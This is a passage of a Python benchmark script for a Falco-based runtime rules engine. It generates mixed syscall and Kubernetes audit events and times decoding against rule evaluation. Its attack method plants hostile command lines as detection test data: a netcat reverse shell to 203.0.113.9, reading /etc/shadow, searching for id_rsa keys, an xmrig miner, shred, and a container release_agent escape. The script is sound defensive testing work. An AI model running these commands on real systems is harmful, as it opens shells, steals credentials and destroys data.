"""Runtime rules engine: events/s over a mixed syscall + Kubernetes audit stream, next to the
cost of only decoding the same JSON lines, in the same run.

Generates (once, cached under benchmarks/.cache, keyed by count, seed, shape, mix and generator
version) a JSON-lines stream of 1,000,000 mixed events, one event per line framed as
``{"source": "syscall" | "k8s_audit", "event": {...}}``:

- Kubernetes audit events (``--audit-share``, 12%): the audit Events of Falco's k8s audit trace
  files, varied in user, verb, resource, namespace, name, stage, response code and time: mostly
  the get/list/watch/update traffic of system users, 5% creates, updates and deletes;
- syscall events (the rest): ``openat`` 55%, ``execve`` 25%, ``connect``/``accept`` 19% and
  ``listen`` 1%, from host processes and 48 pod containers (nginx, gunicorn, node, postgres,
  redis, java), each a dict keyed by Falco field names exactly as ``runtime/sources/sensor.py``
  builds it (the process block of ``_build_fields``, the event blocks of ``_emit_exec``,
  ``_emit_open`` and ``_emit_connection``, the container block of ``sensor_container``, and
  ``evt.num`` as ``_emit`` numbers events; tests/benchmarks/test_runtime_stream.py checks the
  keys and their order against the live sensor's);
- ``--suspicious-per-million`` (900) planted attacks that Falco's stable rules report: a
  terminal shell in a container, /etc/shadow read by cat, ``find / -name id_rsa``, ``nc -e``,
  execution from /dev/shm, from a memfd and from the container's upper layer, ``shred``, a
  release_agent write.

Two shapes of the same stream (``--shape both``, the default): ``sensor`` writes every key the
sensor writes (about 4 KB a line); ``rules`` keeps only the keys the loaded rules, their macros
and outputs read (about 1.5 KB: what a sensor that extracts only the fields in use, as
libsinsp does, would send). The engine's work is the same; the decode-only baseline is not.

It loads Falco's stable rules (falco_rules.yaml) and the k8saudit plugin's rules into the real
Engine with the real field registries, as ``kubeward runtime`` does, and measures pinned to one
core, in one thread, best of ``--rounds``:

(a) decode only: ``orjson.loads`` of each line;
(b) the pipeline: ``orjson.loads`` + ``engine.process(source, event)`` + every alert
    written as a JSON line (``LineWriter(..., "json")``, as ``kubeward runtime -o json``)
    to /dev/null.

Both run on lines already read into memory, 50,000 at a time: the issue asks for the
throughput of decoding and of the engine, and reading 1.5 GB from this machine's virtual
disk costs 1 to 2 us a line and varies from run to run by as much. The time to read the
lines is measured apart and printed, with the pipeline's rate counting it.

It prints events/s of both, their ratio and the engine's share per event, alerts, peak RSS,
then on the first ``--sample`` events of the first shape: per-source rates (decode only and
decode + engine, per source), the rules that fired, and the 10 most expensive rules from a
pass with the engine's per-rule timing on. ``--profile`` prints a cProfile of the pipeline
instead.

    python benchmarks/runtime.py [--events 1000000] [--seed 1] [--shape both|sensor|rules]
        [--rounds 2] [--sample 100000] [--audit-share 0.12] [--rebuild] [--profile]
"""

from __future__ import annotations

import argparse
import copy
import itertools
import json
import os
import random
import resource
import sys
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson

HERE = Path(__file__).resolve().parent
CACHE = HERE / ".cache"
FALCO = HERE.parent / ".." / "shared" / "data" / "falco"
RULES_FILES = (
    FALCO / "falcosecurity-rules" / "rules" / "falco_rules.yaml",
    FALCO / "falcosecurity-plugins" / "plugins" / "k8saudit" / "rules" / "k8s_audit_rules.yaml",
)
TRACE_DIR = FALCO / "falcosecurity-falco-tests" / "test" / "trace_files" / "k8s_audit"
VERSION = 3  # bump when the generator changes: cached streams are then rebuilt
TARGETS = {"events_per_s": 200_000.0, "ratio": 0.5}
BASE_NS = 1_767_225_600_000_000_000  # 2026-01-01T00:00:00Z

SYSCALL = "syscall"
K8S = "k8s_audit"

# ---------------------------------------------------------------------------------------------
# The world: containers, processes, what they run, open and connect to
# ---------------------------------------------------------------------------------------------


@dataclass
class Container:
    id: str
    full_id: str
    name: str
    image: str
    pod: str
    namespace: str
    pod_uid: str
    sandbox: str
    labels: dict[str, str]
    mounts: list[list[str]]
    privileged: bool
    start_ns: int
    kind: str  # which app runs in it: a key of APPS


@dataclass
class Proc:
    pid: int
    ppid: int
    name: str
    exe: str
    args: tuple[str, ...]
    cwd: str
    uid: int
    gid: int
    user: str
    home: str
    shell: str
    tty: int
    sid: int
    vpid: int
    start_ns: int
    env: str
    container: Container | None
    parent: Proc | None
    caps: str = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID"
    upper_layer: bool = False
    memfd: bool = False
    fields: dict[str, Any] = field(default_factory=dict)

    @property
    def cmdline(self) -> str:
        return " ".join((self.name, *self.args)) if self.args else self.name

    def chain(self) -> list[Proc]:
        out, p = [], self.parent
        while p is not None and len(out) < 16:
            out.append(p)
            p = p.parent
        return out


# Per app: the main process (exe, args), files it opens (path, write?), services it connects
# to (port), commands its healthcheck or entrypoint scripts run.
APPS: dict[str, dict[str, Any]] = {
    "nginx": {
        "image": "docker.io/library/nginx:1.27.3",
        "main": ("/usr/sbin/nginx", ("-g", "daemon off;"), "nginx"),
        "user": ("www-data", 33),
        "files": [
            ("/usr/share/nginx/html/index.html", False),
            ("/usr/share/nginx/html/static/app.js", False),
            ("/usr/share/nginx/html/static/app.css", False),
            ("/etc/nginx/nginx.conf", False),
            ("/etc/nginx/conf.d/default.conf", False),
            ("/var/log/nginx/access.log", True),
            ("/var/cache/nginx/proxy_temp/1/00/0000000001", True),
            ("/etc/hosts", False),
        ],
        "ports": [8080, 9000, 443],
        "execs": [("/usr/bin/curl", ("-fsS", "http://127.0.0.1:8080/healthz"), "curl")],
    },
    "python": {
        "image": "registry.example.com/payments/api:2.14.1",
        "main": ("/usr/local/bin/python3.12", ("-m", "gunicorn", "app:wsgi", "-w", "4"), "python3"),
        "user": ("app", 1000),
        "files": [
            ("/app/app/views.py", False),
            ("/app/app/models.py", False),
            ("/usr/local/lib/python3.12/site-packages/django/db/models/query.py", False),
            ("/usr/local/lib/python3.12/encodings/idna.py", False),
            ("/tmp/wsgi-upload-3f2a", True),
            ("/etc/ssl/certs/ca-certificates.crt", False),
            ("/etc/resolv.conf", False),
            ("/proc/self/status", False),
        ],
        "ports": [5432, 6379, 443, 53],
        "execs": [
            ("/usr/local/bin/python3.12", ("manage.py", "check", "--deploy"), "python3"),
            ("/usr/bin/env", ("python3", "-c", "import app"), "env"),
        ],
    },
    "node": {
        "image": "registry.example.com/web/frontend:5.3.0",
        "main": ("/usr/local/bin/node", ("server.js",), "node"),
        "user": ("node", 1000),
        "files": [
            ("/srv/app/server.js", False),
            ("/srv/app/node_modules/express/lib/router/index.js", False),
            ("/srv/app/node_modules/react-dom/cjs/react-dom-server.node.production.min.js", False),
            ("/srv/app/dist/main.3c9e1b.js", False),
            ("/tmp/.next-cache/entry.json", True),
            ("/etc/hosts", False),
        ],
        "ports": [8080, 443, 53],
        "execs": [("/usr/local/bin/node", ("healthcheck.js",), "node")],
    },
    "postgres": {
        "image": "docker.io/library/postgres:16.6",
        "main": (
            "/usr/lib/postgresql/16/bin/postgres",
            ("-D", "/var/lib/postgresql/data"),
            "postgres",
        ),
        "user": ("postgres", 999),
        "files": [
            ("/var/lib/postgresql/data/base/16384/2619", False),
            ("/var/lib/postgresql/data/base/16384/16402", True),
            ("/var/lib/postgresql/data/pg_wal/000000010000000000000003", True),
            ("/var/lib/postgresql/data/global/pg_control", False),
            ("/var/lib/postgresql/data/pg_stat_tmp/global.stat", True),
        ],
        "ports": [5432],
        "execs": [("/usr/lib/postgresql/16/bin/pg_isready", ("-U", "postgres"), "pg_isready")],
    },
    "redis": {
        "image": "docker.io/library/redis:7.4.1",
        "main": ("/usr/local/bin/redis-server", ("*:6379",), "redis-server"),
        "user": ("redis", 999),
        "files": [("/data/dump.rdb", True), ("/data/appendonly.aof", True), ("/etc/hosts", False)],
        "ports": [6379],
        "execs": [("/usr/local/bin/redis-cli", ("ping",), "redis-cli")],
    },
    "java": {
        "image": "registry.example.com/orders/service:1.9.4",
        "main": (
            "/opt/java/openjdk/bin/java",
            ("-XX:MaxRAMPercentage=75", "-jar", "/app/orders.jar"),
            "java",
        ),
        "user": ("app", 1000),
        "files": [
            ("/app/orders.jar", False),
            ("/opt/java/openjdk/lib/modules", False),
            ("/opt/java/openjdk/lib/server/libjvm.so", False),
            ("/tmp/hsperfdata_app/1", True),
            ("/app/config/application.yaml", False),
        ],
        "ports": [5432, 9092, 443, 53],
        "execs": [("/usr/bin/curl", ("-fsS", "http://localhost:8081/actuator/health"), "curl")],
    },
}

HOST_PROCS = [
    # (exe, args, name, user, uid)
    ("/usr/bin/containerd", (), "containerd", "root", 0),
    ("/usr/bin/kubelet", ("--config=/var/lib/kubelet/config.yaml",), "kubelet", "root", 0),
    ("/usr/lib/systemd/systemd-journald", (), "systemd-journal", "root", 0),
    ("/usr/sbin/cron", ("-f",), "cron", "root", 0),
    ("/usr/sbin/sshd", ("-D",), "sshd", "root", 0),
    ("/usr/bin/dockerd", ("-H", "fd://"), "dockerd", "root", 0),
    ("/usr/local/bin/node_exporter", ("--path.rootfs=/host",), "node_exporter", "nobody", 65534),
]
HOST_FILES = [
    ("/var/lib/kubelet/pods/7d1c/volumes/kubernetes.io~projected/kube-api-access/token", False),
    ("/proc/1/cgroup", False),
    ("/sys/fs/cgroup/kubepods.slice/cpu.stat", False),
    ("/var/log/syslog", True),
    ("/var/log/journal/5f1e/system.journal", True),
    ("/etc/ld.so.cache", False),
    ("/usr/lib/x86_64-linux-gnu/libc.so.6", False),
    ("/run/containerd/io.containerd.runtime.v2.task/k8s.io/abc/config.json", False),
    ("/etc/passwd", False),
    ("/etc/group", False),
    ("/etc/nsswitch.conf", False),
]
HOST_EXECS = [
    ("/usr/bin/runc", ("--root", "/run/containerd/runc/k8s.io", "state"), "runc"),
    ("/usr/sbin/iptables", ("-w", "-t", "nat", "-S"), "iptables"),
    ("/usr/bin/find", ("/var/log", "-name", "*.gz", "-mtime", "+7"), "find"),
    ("/usr/bin/ls", ("-la", "/var/lib/kubelet"), "ls"),
    ("/usr/bin/grep", ("-c", "error", "/var/log/syslog"), "grep"),
    ("/usr/bin/date", ("+%s",), "date"),
    ("/usr/bin/systemctl", ("is-active", "kubelet"), "systemctl"),
    ("/usr/bin/cat", ("/proc/loadavg",), "cat"),
]
SERVICE_IPS = {
    5432: "10.96.14.21",
    6379: "10.96.30.4",
    443: "10.96.0.1",
    53: "10.96.0.10",
    9092: "10.96.77.8",
    8080: "10.96.102.9",
    9000: "10.96.88.3",
}
SERVICE_NAMES = {
    5432: "postgresql",
    6379: "redis",
    443: "https",
    53: "domain",
    9092: "XmlIpcRegSvc",
}
NAMESPACES = ["default", "payments", "web", "orders", "data", "monitoring", "kube-system"]


def _hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


def _uuid(rng: random.Random) -> str:
    h = _hex(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


class World:
    """Every process and container the generated events come from, built once per seed."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.next_pid = 2000
        self.clock = BASE_NS
        self.containers: list[Container] = []
        self.procs: list[Proc] = []  # long-running: they open files and connect
        self.shims: dict[str, Proc] = {}
        init = self._proc(None, "/usr/lib/systemd/systemd", ("--system",), "systemd", ("root", 0))
        init.pid = 1
        self.init = init
        self.host_procs = [
            self._proc(init, exe, args, name, (user, uid))
            for exe, args, name, user, uid in HOST_PROCS
        ]
        self.procs.extend(self.host_procs)
        self.sshd = self.host_procs[4]
        self.containerd = self.host_procs[0]
        kinds = list(APPS)
        for i in range(48):
            kind = kinds[i % len(kinds)]
            self._container(kind, NAMESPACES[i % len(NAMESPACES)], i)

    def _pid(self) -> int:
        self.next_pid += self.rng.randint(1, 40)
        return self.next_pid

    def _proc(
        self,
        parent: Proc | None,
        exe: str,
        args: tuple[str, ...],
        name: str,
        who: tuple[str, int],
        *,
        container: Container | None = None,
        tty: int = 0,
        cwd: str = "/",
    ) -> Proc:
        user, uid = who
        pid = self._pid()
        home = "/root" if uid == 0 else f"/home/{user}"
        env = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
        if container is not None:
            env += f" HOSTNAME={container.pod} KUBERNETES_SERVICE_HOST=10.96.0.1 HOME={home}"
        else:
            env += f" LANG=C.UTF-8 HOME={home} INVOCATION_ID={_hex(self.rng, 32)}"
        p = Proc(
            pid=pid,
            ppid=parent.pid if parent else 0,
            name=name,
            exe=exe,
            args=args,
            cwd=cwd,
            uid=uid,
            gid=uid,
            user=user,
            home=home,
            shell="/bin/sh" if container else "/bin/bash",
            tty=tty,
            sid=parent.sid if parent and not tty else pid,
            vpid=pid if container is None else self.rng.randint(1, 300),
            start_ns=self.clock - self.rng.randint(10, 100_000) * 1_000_000_000,
            env=env,
            container=container,
            parent=parent,
        )
        if uid == 0:
            p.caps += " CAP_NET_BIND_SERVICE CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP"
        p.fields = process_fields(p)
        return p

    def _container(self, kind: str, namespace: str, index: int) -> None:
        rng = self.rng
        app = APPS[kind]
        full_id = _hex(rng, 64)
        pod = f"{kind}-{_hex(rng, 10)[:10]}-{_hex(rng, 5)}"
        sandbox = _hex(rng, 64)
        c = Container(
            id=full_id[:12],
            full_id=full_id,
            name=kind,
            image=app["image"],
            pod=pod,
            namespace=namespace,
            pod_uid=_uuid(rng),
            sandbox=sandbox,
            labels={},
            mounts=[
                [f"/var/lib/kubelet/pods/{index}/etc-hosts", "/etc/hosts", "", "true", ""],
                [
                    f"/var/lib/kubelet/pods/{index}/volumes/kubernetes.io~projected/token",
                    "/var/run/secrets/kubernetes.io/serviceaccount",
                    "",
                    "false",
                    "rprivate",
                ],
            ],
            privileged=index % 17 == 0,
            start_ns=self.clock - rng.randint(100, 1_000_000) * 1_000_000_000,
            kind=kind,
        )
        self.containers.append(c)
        shim = self._proc(
            self.init,
            "/usr/bin/containerd-shim-runc-v2",
            (
                "-namespace",
                "k8s.io",
                "-id",
                c.full_id,
                "-address",
                "/run/containerd/containerd.sock",
            ),
            "containerd-shim",
            ("root", 0),
        )
        self.shims[c.id] = shim
        exe, args, name = app["main"]
        user, uid = app["user"]
        main = self._proc(shim, exe, args, name, (user, uid), container=c, cwd="/app")
        main.vpid = 1
        main.fields = process_fields(main)
        self.procs.append(main)
        # A few workers of the main process (gunicorn, nginx and postgres fork them).
        for _ in range(rng.randint(1, 4)):
            self.procs.append(
                self._proc(main, exe, args, name, (user, uid), container=c, cwd="/app")
            )

    # -- events -----------------------------------------------------------------------------

    def tick(self) -> int:
        self.clock += self.rng.randint(200, 20_000)
        return self.clock

    def exec_event(self) -> dict[str, Any]:
        rng = self.rng
        if rng.random() < 0.7:
            c = rng.choice(self.containers)
            app = APPS[c.kind]
            parent = self.shims[c.id]
            user, uid = app["user"]
            if rng.random() < 0.5:
                exe, args, name = rng.choice(app["execs"])
                p = self._proc(parent, exe, args, name, (user, uid), container=c, cwd="/app")
            else:
                # The entrypoint script's `sh -c` then its command (a probe, a cron-like job).
                sh = self._proc(parent, "/bin/sh", ("-c", "date"), "sh", (user, uid), container=c)
                p = self._proc(sh, "/bin/date", ("+%s",), "date", (user, uid), container=c)
        else:
            parent = rng.choice((self.containerd, self.host_procs[1], self.host_procs[3]))
            exe, args, name = rng.choice(HOST_EXECS)
            p = self._proc(parent, exe, args, name, ("root", 0))
        return exec_fields(p, self.tick())

    def open_event(self) -> dict[str, Any]:
        rng = self.rng
        p = rng.choice(self.procs)
        if p.container is not None:
            path, write = rng.choice(APPS[p.container.kind]["files"])
        else:
            path, write = rng.choice(HOST_FILES)
        return open_fields(p, path, write, rng.randint(3, 200), self.tick())

    def net_event(self) -> dict[str, Any]:
        rng = self.rng
        p = rng.choice(self.procs)
        if p.container is not None:
            port = rng.choice(APPS[p.container.kind]["ports"])
            lip = f"10.244.{rng.randint(0, 7)}.{rng.randint(2, 250)}"
        else:
            port = rng.choice((443, 53, 6443, 10250))
            lip = "192.168.10.21"
        kind = "connect" if rng.random() < 0.8 else "accept"
        rip = SERVICE_IPS.get(port, "192.168.10.1")
        fd = rng.randint(3, 200)
        ephemeral = rng.randint(32768, 60999)
        if kind == "accept":
            local, remote = (lip, port), (rip, ephemeral)
        else:
            local, remote = (lip, ephemeral), (rip, port)
        return net_fields(p, kind, local=local, remote=remote, fd=fd, ts=self.tick())

    def listen_event(self) -> dict[str, Any]:
        p = self.rng.choice(self.procs)
        local, remote = ("0.0.0.0", 8080), (None, None)
        return net_fields(p, "listen", local=local, remote=remote, fd=7, ts=self.tick())

    def attack(self, kind: str) -> dict[str, Any]:
        """One planted event that a stable rule reports."""
        rng = self.rng
        c = rng.choice([c for c in self.containers if kind != "release_agent" or c.privileged])
        shim = self.shims[c.id]
        user, uid = APPS[c.kind]["user"]
        now = self.tick()
        if kind == "terminal_shell":
            runc = self._proc(shim, "/usr/bin/runc", ("init",), "runc", ("root", 0), container=c)
            p = self._proc(runc, "/bin/bash", (), "bash", ("root", 0), container=c, tty=34816)
            return exec_fields(p, now)
        if kind == "shadow_read":
            sh = self._proc(shim, "/bin/sh", (), "sh", ("root", 0), container=c, tty=34817)
            p = self._proc(sh, "/bin/cat", ("/etc/shadow",), "cat", ("root", 0), container=c)
            return open_fields(p, "/etc/shadow", False, 3, now)
        if kind == "key_search":
            sh = self._proc(shim, "/bin/sh", (), "sh", (user, uid), container=c)
            args = ("/", "-name", "id_rsa")
            p = self._proc(sh, "/usr/bin/find", args, "find", (user, uid), container=c)
            return exec_fields(p, now)
        if kind == "netcat":
            sh = self._proc(shim, "/bin/sh", (), "sh", (user, uid), container=c)
            args = ("-e", "/bin/sh", "203.0.113.9", "4444")
            p = self._proc(sh, "/usr/bin/nc", args, "nc", (user, uid), container=c)
            return exec_fields(p, now)
        if kind == "dev_shm":
            sh = self._proc(shim, "/bin/sh", (), "sh", (user, uid), container=c)
            p = self._proc(sh, "/dev/shm/.x/kworker", (), "kworker", (user, uid), container=c)
            return exec_fields(p, now)
        if kind == "memfd":
            sh = self._proc(shim, "/bin/sh", (), "sh", (user, uid), container=c)
            p = self._proc(sh, "memfd:payload", (), "3", (user, uid), container=c)
            p.memfd = True
            p.fields = process_fields(p)
            return exec_fields(p, now)
        if kind == "drop_exec":
            sh = self._proc(shim, "/bin/sh", (), "sh", (user, uid), container=c)
            p = self._proc(
                sh, "/tmp/xmrig", ("-o", "pool.example:3333"), "xmrig", (user, uid), container=c
            )
            p.upper_layer = True
            p.fields = process_fields(p)
            return exec_fields(p, now)
        if kind == "shred":
            p = self._proc(
                self.sshd, "/usr/bin/shred", ("-u", "/var/lib/db.img"), "shred", ("root", 0)
            )
            return exec_fields(p, now)
        if kind == "release_agent":
            sh = self._proc(shim, "/bin/sh", (), "sh", ("root", 0), container=c)
            sh.caps += " CAP_SYS_ADMIN"
            sh.fields = process_fields(sh)
            return open_fields(sh, "/tmp/cgrp/release_agent", True, 4, now)
        raise ValueError(kind)


ATTACKS = (
    "terminal_shell",
    "shadow_read",
    "key_search",
    "netcat",
    "dev_shm",
    "memfd",
    "drop_exec",
    "shred",
    "release_agent",
)

# ---------------------------------------------------------------------------------------------
# Syscall events with the sensor's keys (sources/sensor.py, sources/sensor_container.py)
# ---------------------------------------------------------------------------------------------


def process_fields(p: Proc) -> dict[str, Any]:
    """The process block ``Sensor._build_fields`` writes, same keys, same order."""
    chain = p.chain()
    parent = chain[0] if chain else None
    session = p if p.sid == p.pid else next((a for a in chain if a.pid == p.sid), parent)
    c = p.container
    cid = c.id if c is not None else "host"
    ns = c.start_ns if c is not None else BASE_NS - 9_000_000 * 1_000_000_000
    fields: dict[str, Any] = {
        "proc.pid": p.pid,
        "thread.tid": p.pid,
        "thread.ismain": True,
        "proc.ppid": p.ppid,
        "proc.name": p.name,
        "proc.exe": p.exe,
        "proc.exepath": p.exe,
        "proc.args": " ".join(p.args),
        "proc.cmdline": p.cmdline,
        "proc.cmdnargs": len(p.args),
        "proc.cmdlenargs": sum(len(a) for a in p.args),
        "proc.cwd": p.cwd if p.cwd.endswith("/") else p.cwd + "/",
        "proc.env": p.env,
        "proc.tty": p.tty,
        "proc.sid": p.sid,
        "proc.vpid": p.vpid,
        "thread.vtid": p.vpid,
        "proc.vpgid": p.vpid,
        "proc.pvpid": parent.vpid if parent else None,
        "proc.pid.ts": p.start_ns,
        "proc.ppid.ts": parent.start_ns if parent else None,
        "proc.aname": [a.name for a in chain],
        "proc.apid": [a.pid for a in chain],
        "proc.aexe": [a.exe for a in chain],
        "proc.aexepath": [a.exe for a in chain],
        "proc.acmdline": [a.cmdline for a in chain],
        "proc.aenv": [a.env for a in chain],
        "proc.pname": parent.name if parent else None,
        "proc.pexe": parent.exe if parent else None,
        "proc.pexepath": parent.exe if parent else None,
        "proc.pcmdline": parent.cmdline if parent else None,
        "proc.sname": session.name if session else None,
        "proc.sid.exe": session.exe if session else None,
        "proc.sid.exepath": session.exe if session else None,
        "proc.vpgid.name": p.name,
        "proc.vpgid.exe": p.exe,
        "proc.vpgid.exepath": p.exe,
        "proc.is_exe_writable": p.upper_layer,
        "proc.is_exe_upper_layer": p.upper_layer,
        "proc.is_exe_from_memfd": p.memfd,
        "proc.exe_ino": 1_000_000 + p.pid % 50_000,
        "proc.exe_ino.ctime": BASE_NS - 86_400_000_000_000,
        "proc.exe_ino.mtime": BASE_NS - 86_400_000_000_000,
        "proc.pidns_init_start_ts": ns,
        "proc.vmsize": 20_000 + p.pid % 900_000,
        "proc.vmrss": 4_000 + p.pid % 200_000,
        "proc.vmswap": 0,
        "thread.vmsize": 20_000 + p.pid % 900_000,
        "thread.vmrss": 4_000 + p.pid % 200_000,
        "thread.pfmajor": p.pid % 7,
        "thread.pfminor": 100 + p.pid % 5_000,
        "proc.nthreads": 1 + p.pid % 9,
        "proc.nchilds": p.pid % 9,
        "thread.cgroups": (
            f"cpuset=/kubepods.slice/cri-containerd-{c.full_id}.scope"
            if c is not None
            else "cpuset=/system.slice/containerd.service"
        ),
        "user.uid": p.uid,
        "user.name": p.user,
        "user.homedir": p.home,
        "user.shell": p.shell,
        "user.loginuid": -1 if c is not None else (1000 if p.tty else -1),
        "user.loginname": None if c is not None or not p.tty else "admin",
        "group.gid": p.gid,
        "group.name": p.user,
        "container.id": cid,
        "thread.cap_permitted": p.caps,
        "thread.cap_inheritable": "",
        "thread.cap_effective": p.caps,
    }
    if c is None:
        fields["container.name"] = "host"
        return fields
    fields["container.full_id"] = c.full_id
    fields["container.type"] = "containerd"
    fields["container.start_ts"] = ns
    # What Sensor._enrich adds from the runtime (sensor_container._bundle_fields).
    repository, _, tag = c.image.rpartition(":")
    fields.update(
        {
            "container.name": c.name,
            "container.image": c.image,
            "container.image.repository": repository,
            "container.image.tag": tag,
            "container.image.digest": None,
            "container.mount": c.mounts,
            "container.label": c.labels,
            "container.privileged": c.privileged,
            "k8s.pod.name": c.pod,
            "k8s.ns.name": c.namespace,
            "k8s.pod.uid": c.pod_uid,
            "k8s.pod.label": c.labels,
            "k8s.pod.full_sandbox_id": c.sandbox,
            "k8s.pod.sandbox_id": c.sandbox[:12],
        }
    )
    return fields


def exec_fields(p: Proc, ts: int) -> dict[str, Any]:
    """``Sensor._emit_exec``."""
    ev = dict(p.fields)
    args = ev["proc.args"] or ""
    flags = (
        "EXE_UPPER_LAYER|EXE_WRITABLE" if p.upper_layer else ("EXE_FROM_MEMFD" if p.memfd else "")
    )
    raw_flags = 24 if p.upper_layer else (32 if p.memfd else 0)
    ev.update(
        {
            "evt.type": "execve",
            "evt.dir": "<",
            "evt.category": "process",
            "evt.time": ts,
            "evt.rawres": 0,
            "evt.res": "SUCCESS",
            "evt.arg.res": "0",
            "evt.arg.exe": p.exe,
            "evt.arg.args": args,
            "evt.arg.tid": p.pid,
            "evt.arg.pid": p.pid,
            "evt.arg.ptid": p.ppid,
            "evt.arg.cwd": p.cwd,
            "evt.arg.comm": p.name,
            "evt.arg.flags": flags,
            "evt.rawarg.flags": raw_flags,
            "evt.args": (
                f"res=0 exe={p.exe} args={args} tid={p.pid}({p.name}) pid={p.pid}({p.name}) "
                f"ptid={p.ppid}({ev['proc.pname']}) cwd={p.cwd} comm={p.name} "
                f"flags={raw_flags}({flags})"
            ),
        }
    )
    return ev


def open_fields(p: Proc, path: str, write: bool, fd: int, ts: int) -> dict[str, Any]:
    """``Sensor._emit_open`` for an open whose close told its access mode."""
    ev = dict(p.fields)
    ppm = 2 | 1 << 12 if write else 1 | 1 << 12
    flags_text = ("O_WRONLY" if write else "O_RDONLY") + "|O_CLOEXEC"
    pos = path.rfind("/")
    directory, filename = (path[:pos] or "/"), path[pos + 1 :]
    ev.update(
        {
            "evt.type": "openat",
            "evt.dir": "<",
            "evt.category": "file",
            "evt.time": ts,
            "evt.rawres": fd,
            "evt.res": "SUCCESS",
            "evt.is_open_read": not write,
            "evt.is_open_write": write,
            "fd.num": fd,
            "fd.type": "file",
            "fd.typechar": "f",
            "fd.name": path,
            "fd.nameraw": path,
            "fd.directory": directory,
            "fd.filename": filename,
            "fd.dev": 8 << 20 | 1,
            "fd.ino": 4_000_000 + fd * 131 + len(path),
            "evt.arg.fd": f"{fd}(<f>{path})",
            "evt.arg.dirfd": "-100(AT_FDCWD)",
            "evt.arg.name": path,
            "evt.arg.flags": flags_text,
            "evt.rawarg.flags": ppm,
            "evt.args": (
                f"fd={fd}(<f>{path}) dirfd=-100(AT_FDCWD) name={path} flags={ppm}({flags_text})"
            ),
        }
    )
    cid = ev.get("container.id")
    ev["fd.containername"] = f"{cid}:{path}"
    ev["fd.containerdirectory"] = f"{cid}:{directory}"
    ev["fd.uid"] = f"{p.pid}{fd}"
    return ev


def net_fields(
    p: Proc,
    kind: str,
    *,
    local: tuple[str | None, int | None],
    remote: tuple[str | None, int | None],
    fd: int,
    ts: int,
) -> dict[str, Any]:
    """``Sensor._emit_connection`` for a TCP socket over IPv4."""
    ev = dict(p.fields)
    (lip, lport), (rip, rport) = local, remote
    if kind == "accept":
        client, server = (rip, rport), (lip, lport)
    elif kind == "connect":
        client, server = (lip, lport), (rip, rport)
    else:
        client, server = (None, None), (lip, lport)
    name = (
        f"{lip}:{lport}"
        if kind == "listen"
        else f"{client[0]}:{client[1]}->{server[0]}:{server[1]}"
    )
    ev.update(
        {
            "evt.type": kind,
            "evt.dir": "<",
            "evt.category": "net",
            "evt.time": ts,
            "evt.rawres": fd if kind == "accept" else 0,
            "evt.res": "SUCCESS",
            "fd.num": fd,
            "fd.type": "ipv4",
            "fd.typechar": "4",
            "fd.sockfamily": "ip",
            "fd.l4proto": "tcp",
            "fd.name": name,
            "fd.cip": client[0],
            "fd.cport": client[1],
            "fd.sip": server[0],
            "fd.sport": server[1],
            "fd.lip": lip,
            "fd.lport": lport,
            "fd.rip": rip if kind != "listen" else None,
            "fd.rport": rport if kind != "listen" else None,
            "fd.cproto": None,
            "fd.sproto": SERVICE_NAMES.get(server[1] or 0),
            "fd.lproto": SERVICE_NAMES.get(lport or 0),
            "fd.rproto": SERVICE_NAMES.get(rport or 0) if kind != "listen" else None,
            "fd.is_server": kind != "connect",
            "fd.connected": kind != "listen",
            "fd.name_changed": False,
            "evt.arg.fd": f"{fd}(<4t>{name})",
            "evt.arg.tuple": name,
            "evt.args": f"fd={fd} tuple={name}",
        }
    )
    ev["fd.uid"] = f"{p.pid}{fd}"
    return ev


# ---------------------------------------------------------------------------------------------
# Kubernetes audit events from Falco's trace files
# ---------------------------------------------------------------------------------------------

SYSTEM_USERS = [
    ("system:serviceaccount:kube-system:replicaset-controller", ["system:serviceaccounts"]),
    ("system:serviceaccount:kube-system:endpointslice-controller", ["system:serviceaccounts"]),
    ("system:serviceaccount:kube-system:generic-garbage-collector", ["system:serviceaccounts"]),
    ("system:serviceaccount:monitoring:prometheus", ["system:serviceaccounts"]),
    ("system:kube-controller-manager", ["system:authenticated"]),
    ("system:kube-scheduler", ["system:authenticated"]),
    ("system:apiserver", ["system:masters"]),
    ("system:node:worker-1", ["system:nodes", "system:authenticated"]),
    ("system:node:worker-2", ["system:nodes", "system:authenticated"]),
    ("system:node:worker-3", ["system:nodes", "system:authenticated"]),
]
HUMAN_USERS = [
    ("kubernetes-admin", ["system:masters", "system:authenticated"]),
    ("minikube-user", ["system:masters", "system:authenticated"]),
    ("ci-deployer@example.com", ["deployers", "system:authenticated"]),
    ("alice@example.com", ["developers", "system:authenticated"]),
]
READ_RESOURCES = [
    ("pods", ""),
    ("endpoints", ""),
    ("configmaps", ""),
    ("nodes", ""),
    ("leases", "coordination.k8s.io"),
    ("deployments", "apps"),
    ("replicasets", "apps"),
    ("services", ""),
    ("events", ""),
    ("secrets", ""),
    ("endpointslices", "discovery.k8s.io"),
]


def load_templates() -> list[dict[str, Any]]:
    """The audit Events of Falco's k8s audit trace files (one file may hold several)."""
    out = []
    for path in sorted(TRACE_DIR.glob("*.json")):
        for line in path.read_text().splitlines():
            if not line.strip():
                continue
            event = json.loads(line)
            if isinstance(event, dict) and "auditID" in event and "objectRef" in event:
                out.append(event)
    return out


def _rfc3339(ns: int) -> str:
    seconds, fraction = divmod(ns, 1_000_000_000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{fraction // 1000:06d}Z"


class AuditGenerator:
    def __init__(self, rng: random.Random, world: World) -> None:
        self.rng = rng
        self.world = world
        self.templates = load_templates()
        self.writes = [
            t for t in self.templates if t.get("verb") in ("create", "delete", "update", "patch")
        ]
        self.base = next(t for t in self.templates if t["objectRef"].get("resource") == "pods")

    def event(self) -> dict[str, Any]:
        rng = self.rng
        r = rng.random()
        if r < 0.95:
            ev = self._read()
        else:
            ev = copy.deepcopy(rng.choice(self.writes))
            if rng.random() < 0.7:
                ev["user"] = self._user(system=rng.random() < 0.5)
            ns = ev["objectRef"].get("namespace")
